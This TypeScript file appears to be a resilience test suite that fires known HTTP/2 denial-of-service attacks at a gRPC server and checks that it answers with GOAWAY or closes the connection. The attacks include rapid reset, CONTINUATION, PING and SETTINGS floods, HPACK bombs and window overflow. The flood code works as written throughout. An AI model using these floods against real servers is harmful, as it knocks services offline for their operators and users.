import type { Attack, Target, Verdict } from "./attack.js";
import { type Goaway, RawConnection } from "./raw-connection.js";
import {
  ACK,
  END_HEADERS,
  END_STREAM,
  FrameType,
  frame,
  indexed,
  indexedLiteral,
  literal,
  requestBlock,
  rstStream,
  settings,
  tableSize,
  windowUpdate,
} from "./wire.js";

const ENHANCE_YOUR_CALM = 11;
const echo = "/grpc.testing.TestService/FullDuplexCall";

/** Attacks by many frames that each cost the server something. */
export const floods: readonly Attack[] = [
  flood("rapid reset, CVE-2023-44487", 1000, (n) => Buffer.concat([open(id(n), echo), rstStream(id(n), 8)])),
  flood("resets that the server must make, CVE-2025-8671: window update of 0", 600, (n) =>
    Buffer.concat([open(id(n), echo), windowUpdate(id(n), 0)]),
  ),
  flood("the same: DATA after the end", 600, (n) =>
    Buffer.concat([open(id(n), echo, END_STREAM), frame(FrameType.DATA, 0, id(n), Buffer.from("x"))]),
  ),
  flood("CONTINUATION, CVE-2024-27316", 128, (n) =>
    n === 0
      ? frame(FrameType.HEADERS, 0, 1, requestBlock(echo))
      : frame(FrameType.CONTINUATION, 0, 1, literal("x-more", "y".repeat(200))),
  ),
  flood(
    "CONTINUATION of no octets",
    10,
    (n) => (n === 0 ? frame(FrameType.HEADERS, 0, 1, requestBlock(echo)) : frame(FrameType.CONTINUATION, 0, 1)),
    { batchSize: 1 },
  ),
  flood("PING, answers read, CVE-2019-9512", 2000, () => frame(FrameType.PING, 0, 0, Buffer.alloc(8))),
  unreadFlood("PING, answers not read", () => frame(FrameType.PING, 0, 0, Buffer.alloc(8))),
  flood("SETTINGS, CVE-2019-9515", 2000, () => settings([3, 100])),
  unreadFlood("SETTINGS, answers not read", () => settings([3, 100])),
  flood(
    "SETTINGS of 2,700 settings, CVE-2020-11080",
    1,
    () => settings(...Array.from({ length: 2700 }, () => [4, 65_535] as const)),
    { batchSize: 1 },
  ),
  flood("empty DATA, CVE-2019-9518", 101, (n) => (n === 0 ? open(1, echo) : frame(FrameType.DATA, 0, 1)), {
    batchSize: 1,
  }),
  flood("PRIORITY, CVE-2019-9513", 2000, (n) => frame(FrameType.PRIORITY, 0, id(n), Buffer.from([0, 0, 0, 0, 7]))),
  flood("frames of unknown type", 2000, () => frame(0x42, 0, 0, Buffer.alloc(4))),
  flood("header names of no octets, CVE-2019-9516", 600, (n) =>
    frame(FrameType.HEADERS, END_HEADERS, id(n), Buffer.concat([requestBlock(echo), literal("", "")])),
  ),
  {
    name: "changes of the dynamic table's size",
    limit: "a block of 1,000 changes ends the connection",
    async run({ port }) {
      const connection = await RawConnection.open(port);
      const changes = Array.from({ length: 1000 }, (_, i) => tableSize(i % 2 === 0 ? 0 : 4096));
      const block = Buffer.concat([...changes, requestBlock(echo)]);
      connection.send(frame(FrameType.HEADERS, END_HEADERS, 1, block));
      await connection.waitFor(() => connection.isOver, 1000);
      return endOf(connection, "1 block", connection.isOver);
    },
  },
  {
    name: "HPACK bomb: an entry of 4,000 octets, 4,000 times in a request",
    limit: "every request refused, memory flat, GOAWAY by 600 of them",
    maxGrowthMb: 60,
    async run({ port }) {
      const connection = await RawConnection.open(port);
      const first = Buffer.concat([requestBlock(echo), indexedLiteral("x-bomb", "b".repeat(4000))]);
      connection.send(frame(FrameType.HEADERS, END_HEADERS, 1, first));
      const bomb = Buffer.concat([requestBlock(echo), ...Array.from({ length: 4000 }, () => indexed(62))]);
      const sent = await connection.flood(5000, 10, (n) => frame(FrameType.HEADERS, END_HEADERS, id(n + 1), bomb));
      return endOf(connection, `${accepted(connection.goaway, sent)} requests`, isWithin(connection, sent, 600));
    },
  },
  {
    name: "HPACK bomb: 4,000 crumbs of cookie in a request, window 0",
    limit: "every request refused, memory flat, GOAWAY by 600 of them",
    maxGrowthMb: 60,
    async run({ port }) {
      const connection = await RawConnection.open(port, settings([4, 0]));
      const crumb = indexedLiteral("cookie", "a");
      connection.send(frame(FrameType.HEADERS, END_HEADERS, 1, Buffer.concat([requestBlock(echo), crumb])));
      const bomb = Buffer.concat([requestBlock(echo), ...Array.from({ length: 4000 }, () => indexed(62))]);
      const sent = await connection.flood(5000, 10, (n) => frame(FrameType.HEADERS, END_HEADERS, id(n + 1), bomb));
      return endOf(connection, `${accepted(connection.goaway, sent)} requests`, isWithin(connection, sent, 600));
    },
  },
  {
    name: "more streams than allowed",
    limit: "1,000 open, the others refused, GOAWAY by 1,600",
    async run({ port }) {
      const connection = await RawConnection.open(port);
      const sent = await connection.flood(5000, 50, (n) => open(id(n), echo));
      return endOf(connection, `${accepted(connection.goaway, sent)} streams`, isWithin(connection, sent, 1600));
    },
  },
  {
    name: "1,000 calls of a client that accepts header lists of one octet",
    limit: "every call is answered, and none reset",
    async run({ port }) {
      const connection = await RawConnection.open(port, settings([6, 1]));
      for (let n = 0; n < 1000; n += 50) {
        connection.send(
          ...Array.from({ length: 50 }, (_, i) => open(id(n + i), "/grpc.testing.TestService/None", END_STREAM)),
        );
        await connection.waitFor(() => connection.endedStreams.size + connection.resets.size >= n + 50, 2000);
      }
      const { endedStreams, resets, isOver } = connection;
      connection.destroy();
      return {
        accepted: "1,000 calls",
        did: `answered ${endedStreams.size}, reset ${resets.size}`,
        isHeld: endedStreams.size === 1000 && resets.size === 0 && !isOver,
      };
    },
  },
  {
    name: "window overflow, on 300 connections",
    limit: "GOAWAY on each, memory flat",
    maxGrowthMb: 60,
    async run({ port }) {
      const connections = await Promise.all(Array.from({ length: 300 }, () => RawConnection.open(port)));
      for (const connection of connections) connection.send(open(1, echo), windowUpdate(0, 0x7fff_ffff));
      const ended = await Promise.all(connections.map((one) => one.waitFor(() => one.isClosed, 3000)));
      const closed = ended.filter(Boolean).length;
      const codes = new Set(connections.map(({ goaway }) => goaway?.code));
      for (const connection of connections) connection.destroy();
      return {
        accepted: "1 frame each",
        did: `GOAWAY with FLOW_CONTROL_ERROR and closed: ${closed} of 300`,
        isHeld: closed === 300 && codes.size === 1 && codes.has(3),
      };
    },
  },
];

function flood(
  name: string,
  most: number,
  event: (number: number) => Uint8Array,
  { batchSize = 25 }: { readonly batchSize?: number } = {},
): Attack {
  return {
    name,
    limit: `GOAWAY by ${most.toLocaleString("en-US")}`,
    async run({ port }: Target): Promise<Verdict> {
      const connection = await RawConnection.open(port);
      const sent = await connection.flood(10 * most + batchSize, batchSize, event);
      // What is sent while the GOAWAY is on its way is not accepted, but cannot be told from what was.
      return endOf(connection, accepted(connection.goaway, sent), isWithin(connection, sent, most));
    },
  };
}

/** An attacker that reads no answer learns of its end when nothing more can be sent. */
function unreadFlood(name: string, event: () => Uint8Array): Attack {
  const most = 2000;
  return {
    name,
    limit: "cut off by 2,000",
    async run({ port }) {
      const connection = await RawConnection.open(port, settings(), false);
      connection.send(frame(FrameType.SETTINGS, ACK, 0));
      for (let sent = 0; sent < most && !connection.isClosed; sent += 25) {
        connection.send(...Array.from({ length: 25 }, event));
        await connection.waitFor(() => connection.isClosed, 1);
      }
      // The server waits a second for its last words to be read, and closes then.
      for (let i = 0; i < 30 && !connection.isClosed; i++) {
        connection.send(event());
        await connection.waitFor(() => connection.isClosed, 100);
      }
      connection.destroy();
      return {
        accepted: `at most ${most}`,
        did: connection.isClosed ? "closed" : "nothing",
        isHeld: connection.isClosed,
      };
    },
  };
}

function endOf(connection: RawConnection, what: string, isHeld: boolean): Verdict {
  connection.destroy();
  const { goaway, resets } = connection;
  const reset = resets.size === 0 ? "" : `, after ${resets.size} RST_STREAM`;
  const did = goaway === undefined ? (connection.isClosed ? "closed" : "nothing") : `${goawayText(goaway)}${reset}`;
  return { accepted: what, did, isHeld };
}

function goawayText({ code, reason }: Goaway): string {
  return `GOAWAY ${code === ENHANCE_YOUR_CALM ? "ENHANCE_YOUR_CALM" : `with code ${code}`} (${reason})`;
}

/** The streams that the server says it has taken, or all that was sent. */
function accepted(goaway: Goaway | undefined, sent: number): string {
  return goaway !== undefined && goaway.lastStreamId > 1 ? String(streamsOf(goaway)) : `at most ${sent}`;
}

/** What is sent while a GOAWAY is on its way, and what a second allows again, are not held against the server. */
function isWithin({ goaway, isOver }: RawConnection, sent: number, most: number): boolean {
  const count = goaway !== undefined && goaway.lastStreamId > 1 ? streamsOf(goaway) : sent;
  return isOver && count <= most * 1.1 + 20;
}

function streamsOf({ lastStreamId }: Goaway): number {
  return (lastStreamId + 1) / 2;
}

function id(number: number): number {
  return 2 * number + 1;
}

function open(streamId: number, path: string, flags = 0): Buffer {
  return frame(FrameType.HEADERS, END_HEADERS | flags, streamId, requestBlock(path));
}
